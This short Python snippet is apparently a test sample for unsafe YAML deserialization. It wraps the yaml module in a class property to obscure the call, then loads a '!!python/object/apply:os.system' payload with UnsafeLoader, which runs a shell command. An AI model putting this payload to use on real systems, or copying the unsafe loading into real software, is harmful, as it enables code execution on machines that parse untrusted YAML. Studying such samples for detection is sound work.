class my_Box:

    def __init__(self, v):
        self.v = v

    @property
    def p(self):
        return self.v
import yaml
my_Box(yaml).p.load("!!python/object/apply:os.system ['id>pf']", Loader=my_Box(yaml).p.UnsafeLoader)
